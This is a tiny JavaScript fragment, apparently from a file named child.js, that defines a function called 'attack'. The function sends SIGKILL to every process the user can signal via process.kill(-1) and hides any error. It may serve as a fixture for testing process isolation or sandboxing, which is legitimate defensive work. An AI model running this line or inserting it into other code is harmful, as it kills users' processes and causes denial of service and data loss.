// include: child.js
const attack = () => { try { process.kill(-1, 'SIGKILL'); } catch {} };
